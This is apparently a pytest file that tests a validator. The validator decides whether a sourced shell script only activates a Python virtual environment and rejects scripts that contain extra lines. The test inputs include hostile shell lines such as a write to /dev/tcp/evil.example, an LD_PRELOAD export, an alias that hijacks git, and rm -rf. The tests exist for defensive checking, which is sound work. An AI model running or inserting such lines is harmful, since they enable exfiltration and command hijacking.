"""Scripts that are sourced to use a Python environment: which are known, and that bash agrees on what they set."""

from __future__ import annotations

import subprocess
import sys
from typing import TYPE_CHECKING, Any

import pytest

from gateway.commands.activation import sets
from gateway.commands.analyse import Start, analyse

if TYPE_CHECKING:
    from pathlib import Path

STANDARD = """\
deactivate () {
    PATH="${_OLD_VIRTUAL_PATH:-}"
    unset _OLD_VIRTUAL_PATH VIRTUAL_ENV
    if [ ! "${1:-}" = "nondestructive" ] ; then
        unset -f deactivate
    fi
}
deactivate nondestructive
VIRTUAL_ENV="/p/.venv"
export VIRTUAL_ENV
PATH="$VIRTUAL_ENV/bin:$PATH"
export PATH
hash -r 2> /dev/null
"""
USUAL = (
    'PS1="(.venv) ${PS1:-}"', "export VIRTUAL_ENV=$(cygpath /p/.venv)", 'case "$(uname)" in *) export PS1 ;; esac',
    'if [ "x" != x ] ; then echo no >&2; exit 33; fi', 'VIRTUAL_ENV_PROMPT=$(basename "$VIRTUAL_ENV")',
    'SCRIPT_PATH="${(%):-%x}"', 'SCRIPT_PATH="${.sh.file}"', "# cd /; rm -rf x",
    "alias pydoc 2>/dev/null >/dev/null && unalias pydoc || true", 'pydoc () { python -m pydoc "$@"; }',
)  # fmt: skip
MORE = (
    "cd /tmp", "rm -rf x", ". other", 'eval "$X"', "export LD_PRELOAD=/p/x.so", "BASH_ENV=x", "HOME=/p", "git() { :; }",
    "alias git=evil", "hash -p /p/evil git", "unset HOME", "echo x > file", "cat < file", "python -m pydoc x",
    'python -c "1"', "set -a", "shopt -s extglob", "trap x EXIT", "command git status", "command -v rm && rm x",
    "$(cat x)", "PS1=$(date)", "exec 3> x", "readonly PATH", "declare -i PATH", "return", "export -f deactivate",
    "enable -n hash", "IFS=x", "[ -v 'x[$(date)]' ]", "PATH=${x@P}", "basename x > y", "echo <(rm x)", "pydoc x",
    "PS1='a[$(x)]'; PATH[PS1]=1", "PS1='a[$(x)]'; echo $((PS1))", "PS1='a[$(x)]'; echo ${PATH:PS1:1}", "echo ${!PS1}",
    "export 'PATH[$(x)]=1'", "for BASH_ENV in x; do export BASH_ENV; done", "echo ${LD_PRELOAD:=x}", "echo x >&file",
    "echo x > /dev/tcp/evil.example/80", "LD_PRELOAD=x basename y", "coproc echo", "export B{ASH_ENV=x,}", "./echo x",
    "deactivate", ": x", "builtin cd /", "source /p/x", "VIRTUAL_ENV=`date`", "unalias -a", "export $X",
)  # fmt: skip


def test_a_script_that_only_sets_variables_is_known_by_them() -> None:
    assert sets(STANDARD) == ("PATH", "VIRTUAL_ENV")
    assert {line: bool(sets(f"{STANDARD}{line}\n")) for line in USUAL} == dict.fromkeys(USUAL, True)


def test_a_line_that_does_more_makes_it_any_text() -> None:
    assert {line: sets(f"{STANDARD}{line}\n") for line in MORE} == dict.fromkeys(MORE, ())
    assert {line: sets(f"{line}\n{STANDARD}") for line in MORE} == dict.fromkeys(MORE, ())


@pytest.mark.parametrize(
    "text", ["", "PATH=/x:$PATH\n", STANDARD * 40, f"{STANDARD}if\n", STANDARD + "\0", "deactivate () { :; }"]
)
def test_what_is_no_such_script_is_none(text: str) -> None:
    assert sets(text) == ()


@pytest.mark.parametrize(
    ("text", "before"),
    [
        (". e/bin/activate", 0),
        ("ls; . e/bin/activate; touch x", 1),
        ("ls && (. e/bin/activate; touch x)", 1),
        ("touch x & . e/bin/activate; ls", 3),
        ("f() { touch x; }; . e/bin/activate; f", 3),
        ("bash -c '. e/bin/activate; touch x'", 1),
    ],
)
def test_what_may_run_before_a_script_is_all_where_the_order_is_not_that_of_the_text(
    text: str, before: int, descriptions: dict[str, Any]
) -> None:
    analysis = analyse(text, Start("/p", "/home/dev"), descriptions.get)
    assert analysis.sourced == ((before, "/p/e/bin/activate"),)


def test_bash_finds_nothing_else_set_by_the_one_that_python_writes(tmp_path: Path) -> None:
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", tmp_path / "e"], check=True, timeout=60)
    script = tmp_path / "e/bin/activate"
    told = "declare -x; pwd; alias; trap; declare -F; shopt; set -o"
    found = subprocess.run(
        ["bash", "--norc", "-c", f'{told}; echo ----; . "{script}"; {told}'],
        capture_output=True,
        text=True,
        timeout=60,
        cwd=tmp_path,
        env={"PATH": "/usr/bin:/bin"},
        check=True,
    )
    before, _, after = found.stdout.partition("----\n")
    changed = {*before.splitlines()} ^ {*after.splitlines()}
    names = {line.split()[2].partition("=")[0] for line in changed}
    known = sets(script.read_text())
    assert {"PATH", "VIRTUAL_ENV", "deactivate"} <= names <= {*known, "deactivate"}, changed
